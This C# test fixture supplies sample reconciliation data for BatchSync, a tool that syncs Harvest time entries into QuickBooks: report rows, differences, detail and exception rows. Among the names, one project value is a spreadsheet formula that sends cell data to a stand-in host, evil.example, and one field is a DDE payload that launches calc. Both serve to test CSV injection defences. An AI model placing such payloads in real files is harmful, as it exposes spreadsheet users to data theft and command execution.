using BatchSync.Configuration;
using BatchSync.Core.Reconciliation;
using BatchSync.Core.Sources;
using BatchSync.Core.Time;
using BatchSync.Reports;
using BatchSync.Storage;

namespace BatchSync.Tests.Reports;

/// <summary>A small month of two clients that adds up, with one open and one accepted difference; what a test changes is what matters to it.</summary>
internal static class ReportSamples
{
    public static readonly CsvFormat Comma = new(',', '.');
    public static readonly CsvFormat Semicolon = new(';', ',');
    public static readonly DateTimeOffset AsOf = new(2026, 11, 3, 7, 30, 0, TimeSpan.Zero);

    public static Period October { get; } = Period.Of(PeriodKind.Month, new DateOnly(2026, 10, 1));

    public static RunReport Report() => new()
    {
        Job = "harvest-to-quickbooks",
        RunNo = 17,
        AsOf = AsOf,
        Rows = [.. Rows()],
        Differences = [RoundedAway(), AcceptedVoid()],
        Rejections = 2,
    };

    public static RunReport Balanced() => Report() with { Differences = [], Rejections = 0 };

    public static StoredDifference RoundedAway() => Stored(
        3,
        new Difference(
            DifferenceCodes.AmountAtDestination, "H7K2QD5WZX", October, "GLOBEX", "EUR", "-121.00", "-120.99", 0.01m,
            "The destination rounds tax half-even. Correct the credit note there by 0.01 EUR, or accept the difference."),
        null, null, AsOf);

    public static StoredDifference AcceptedVoid() => Stored(
        1,
        new Difference(
            DifferenceCodes.MissingAtDestination, "H4M9TB2C6A", Period.Of(PeriodKind.Month, new DateOnly(2026, 9, 1)), "ACME", "USD", "150.00 USD", "", -150m,
            "The invoice is not at the destination. Ask who voided it, then unpost or accept."),
        "Dana", "Voided on request of the client", AsOf.AddDays(-20));

    private static StoredDifference Stored(long number, Difference difference, string? acceptedBy, string? reason, DateTimeOffset firstSeen) =>
        new(number, "harvest-to-quickbooks", new JudgedDifference(difference, acceptedBy, reason, firstSeen));

    public static ReconciliationRow Row(
        string item, ReconciliationStep step = ReconciliationStep.Bucket, string client = "ACME", string currency = "USD", long? records = null,
        long? seconds = null, decimal? amount = null, Period? period = null) =>
        new(period ?? October, "revenue", "us", client, currency, step, item, records, seconds, amount);

    public static DetailRow Detail(string id, string project = "ACME-WEB", string person = "dana@example.com") => new(
        StreamKind.TimeEntries, id, 1, new DateOnly(2026, 10, 5), "us", "ACME", project, "DEV", person, "",
        4000, null, "", "billed", "H2ZK7WQ9XA", 1, "1042", "posted", 4500, "USD", 187.5m, 13.59m);

    public static ExceptionRow Exception(string id) => new(
        StreamKind.TimeEntries, id, 2, new DateOnly(2026, 10, 30), 4, "", "Initech rollout", "sam@example.com", 1, null, "", "rejected: no client", "client", "Initech",
        "a client that the mapping names");

    /// <summary>A credit note, a refund, a foreign expense, names in other scripts and a name that a spreadsheet would run.</summary>
    public static IEnumerable<DetailRow> Details() =>
    [
        Detail("17"),
        Detail("18", project: "=HYPERLINK(\"http://evil.example/?\"&A1)", person: "Zoë, \"the\" Ångström"),
        Detail("19", person: "山田 太郎") with { Seconds = -900, BilledSeconds = -900, Net = -45m, Tax = -3.26m, Reference = "H7K2QD5WZX", Line = 2 },
        Detail("31") with
        {
            Stream = StreamKind.Expenses, Task = "", Category = "Travel", Seconds = null, BilledSeconds = null, Amount = -2500m, AmountCurrency = "JPY",
            Net = -16.67m, Tax = 0m,
        },
        Detail("40") with { Date = null, Bucket = "held: period open", Reference = "", Line = null, DestinationId = "", State = "", BilledSeconds = null, Currency = "", Net = null, Tax = null },
    ];

    public static IEnumerable<ExceptionRow> Exceptions() =>
    [
        Exception("40") with { Client = "ACME", Bucket = "held: period open", Field = "", Value = "", Rule = "", Seconds = 4000 },
        Exception("77"),
        Exception("78") with { Date = null, AgeDays = null, Seconds = null, Bucket = "rejected: invalid", Field = "seconds", Value = "-1+cmd|' /C calc'!A0", Rule = "decimal hours such as 1.25" },
        Exception("79") with { Stream = StreamKind.Expenses, Seconds = null, Amount = -12.5m, Currency = "EUR", Field = "category", Value = "line one\nline two" },
    ];

    public static async IAsyncEnumerable<T> Stream<T>(IEnumerable<T> rows)
    {
        foreach (var row in rows)
        {
            yield return row;
            await Task.CompletedTask;
        }
    }

    private static ReconciliationRow Whole(ReconciliationStep step, string item, long? records, long? seconds) =>
        new(null, "revenue", "", "", "", step, item, records, seconds, null);

    private static IEnumerable<ReconciliationRow> Rows() =>
    [
        Whole(ReconciliationStep.Source, "time_entries stated in the last reading", 7, null),
        Whole(ReconciliationStep.Source, "time_entries read in the last reading", 7, null),
        Whole(ReconciliationStep.Source, "expenses: no independent source total", null, null),
        Whole(ReconciliationStep.Source, "expenses read in the last reading", 1, null),
        Whole(ReconciliationStep.Records, "time_entries, all versions", 7, 5802),
        Whole(ReconciliationStep.Records, "time_entries, in all buckets", 7, 5802),
        Whole(ReconciliationStep.Records, "expenses, all versions", 1, null),
        Whole(ReconciliationStep.Records, "expenses, in all buckets", 1, null),
        Whole(ReconciliationStep.Records, "time_entries", 1, 0) with { Entity = "us" },
        Whole(ReconciliationStep.Bucket, "time_entries rejected: invalid", 1, 0) with { Entity = "us" },
        Row("time_entries", ReconciliationStep.Records, client: "", currency: "", records: 1, seconds: 1),
        Row("time_entries rejected: no client", client: "", currency: "", records: 1, seconds: 1),
        Row("time_entries", ReconciliationStep.Records, records: 4, seconds: 13001),
        Row("time_entries billed", records: 3, seconds: 9001),
        Row("time_entries held: period open", records: 1, seconds: 4000),
        Row("time_entries", ReconciliationStep.Records, client: "GLOBEX", currency: "EUR", records: 1, seconds: -7200),
        Row("time_entries billed", client: "GLOBEX", currency: "EUR", records: 1, seconds: -7200),
        Row("expenses", ReconciliationStep.Records, client: "GLOBEX", currency: "EUR", records: 1, amount: -12.5m),
        Row("expenses held: not approved", client: "GLOBEX", currency: "EUR", records: 1, amount: -12.5m),
        Row(ReconciliationItems.Worked, ReconciliationStep.Time, seconds: 9001),
        Row(ReconciliationItems.TimeRounding, ReconciliationStep.Time, seconds: 0),
        Row(ReconciliationItems.Billed, ReconciliationStep.Time, seconds: 9001),
        Row(ReconciliationItems.Exact, ReconciliationStep.Amount, amount: 375.0416666667m),
        Row(ReconciliationItems.LineRounding, ReconciliationStep.Amount, amount: 0.0083333333m),
        Row(ReconciliationItems.Net, ReconciliationStep.Amount, amount: 375.05m),
        Row(ReconciliationItems.Tax, ReconciliationStep.Amount, amount: 27.19m),
        Row(ReconciliationItems.Total, ReconciliationStep.Amount, amount: 402.24m),
        Row(ReconciliationItems.Worked, ReconciliationStep.Time, client: "GLOBEX", currency: "EUR", seconds: -7200),
        Row(ReconciliationItems.Billed, ReconciliationStep.Time, client: "GLOBEX", currency: "EUR", seconds: -7200),
        Row(ReconciliationItems.Exact, ReconciliationStep.Amount, client: "GLOBEX", currency: "EUR", amount: -100m),
        Row(ReconciliationItems.Net, ReconciliationStep.Amount, client: "GLOBEX", currency: "EUR", amount: -100m),
        Row(ReconciliationItems.Tax, ReconciliationStep.Amount, client: "GLOBEX", currency: "EUR", amount: -21m),
        Row(ReconciliationItems.Total, ReconciliationStep.Amount, client: "GLOBEX", currency: "EUR", amount: -121m),
        Row(ReconciliationItems.Documents, ReconciliationStep.Posting, records: 1, amount: 402.24m),
        Row($"{ReconciliationItems.Outbox} Posted", ReconciliationStep.Posting, records: 1, amount: 402.24m),
        Row(ReconciliationItems.ReadBack, ReconciliationStep.Posting, records: 1, amount: 402.24m),
        Row(ReconciliationItems.Documents, ReconciliationStep.Posting, client: "GLOBEX", currency: "EUR", records: 1, amount: -121m),
        Row($"{ReconciliationItems.Outbox} Posted", ReconciliationStep.Posting, client: "GLOBEX", currency: "EUR", records: 1, amount: -121m),
        Row(ReconciliationItems.ReadBack, ReconciliationStep.Posting, client: "GLOBEX", currency: "EUR", records: 1, amount: -120.99m),
    ];
}
